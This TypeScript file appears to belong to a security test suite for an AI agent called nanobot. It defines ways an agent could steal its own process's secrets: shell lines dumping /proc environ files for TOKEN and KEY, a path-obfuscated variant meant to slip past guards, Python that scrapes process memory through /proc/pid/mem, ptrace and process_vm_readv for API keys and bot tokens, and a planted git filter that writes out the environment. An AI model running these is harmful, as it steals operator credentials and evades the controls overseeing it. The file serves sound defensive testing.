import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { until } from "../support/until.ts";
import { type Agent, ALICE } from "./agent.ts";

/** A way by which an agent with a shell may look for the secrets of its own process. */
export interface Attack {
  readonly name: string;
  /** What the model asks the shell for; nanobot's own guard takes relative paths only. */
  readonly command: string;
  /** A file that the model first writes into the workspace. */
  readonly file?: { readonly path: string; readonly content: string };
  /** Whether it finds a secret when nanobot runs without the launcher. */
  readonly works: boolean;
}

/** Prints the variables that `read(pid)` finds in the memory of each process. */
const python = (read: string): string => `
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)

def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, rights = line.split()[:2]
        start, end = (int(edge, 16) for edge in span.split("-"))
        if rights.startswith("rw") and end - start < 1 << 30:
            yield start, end

def variables(piece):
    for name in (b"MODEL_API_KEY=", b"TELEGRAM_BOT_TOKEN="):
        at = piece.find(name)
        while at >= 0:
            # What earlier attempts printed is in memory too; a value has no blanks.
            if found := re.match(rb"\\w+=[\\w:.-]{20,}", piece[at : at + 200]):
                yield found[0].decode()
            at = piece.find(name, at + 1)

${read}

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        # Printed afterwards: a process that is being traced does not read what this one prints.
        found = {variable for piece in read(int(pid)) for variable in variables(piece)}
        print(pid, *sorted(found), sep="\\n")
    except OSError as error:
        print(pid, type(error).__name__)
`;

const script = (path: string, content: string): Pick<Attack, "command" | "file"> => ({
  command: path.endsWith(".py") ? `python3 ${path}` : `sh ${path}`,
  file: { path, content },
});

/** Every attack of the tests. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "the environment of every process",
    ...script(
      "environment.sh",
      "for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ | grep -a -e TOKEN -e KEY; done; true",
    ),
    works: true,
  },
  {
    name: "the same by names that no guard recognises",
    command: "cd ..; cd ..; cd pr*c; cat [0-9]*/environ; cd ..; cd run; cat se*/*",
    works: true,
  },
  {
    name: "the memory of every process",
    ...script(
      "memory.py",
      python(`
def read(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for start, end in memory(pid):
            mem.seek(start)
            yield mem.read(end - start)
`),
    ),
    works: true,
  },
  {
    name: "ptrace, then the memory",
    ...script(
      "ptrace.py",
      python(`
def read(pid):
    if libc.ptrace(16, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for start, end in memory(pid):
                mem.seek(start)
                yield mem.read(end - start)
    finally:
        libc.ptrace(17, pid, None, None)
`),
    ),
    works: true,
  },
  {
    name: "process_vm_readv",
    ...script(
      "vm_readv.py",
      python(`
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def read(pid):
    for start, end in memory(pid):
        local = ctypes.create_string_buffer(end - start)
        ours, theirs = Span(ctypes.addressof(local), end - start), Span(start, end - start)
        if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
            yield local.raw
`),
    ),
    works: true,
  },
  {
    name: "the secret files",
    ...script("files.sh", "id; ls -la /run/secrets; cat /run/secrets/*; true"),
    works: false,
  },
];

/** What nanobot prints when its git store was kept from running a program. */
export const REFUSED = "this agent starts no programs: exec is off";

/**
 * Lets nanobot's git store run a filter, which an agent without a shell can write too, and which is given the
 * environment of nanobot itself. What it found there, or nothing if it did not run.
 */
export async function runFilter(agent: Agent): Promise<string | undefined> {
  const config = `[core]\n\trepositoryformatversion = 0\n[filter "planted"]\n\tclean = "sh -c 'env >filtered; cat'"\n`;
  await agent.callTool(ALICE, "write_file", { path: ".git/config", content: config });
  await agent.callTool(ALICE, "write_file", { path: ".gitattributes", content: "* filter=planted\n" });
  await agent.telegram.say(ALICE, "/dream", "Dreaming");
  const found = join(agent.container.data, "workspace/filtered");
  await until("the commit", 60, () => existsSync(found) || agent.container.log.includes(REFUSED));
  return existsSync(found) ? readFileSync(found, "utf8") : undefined;
}
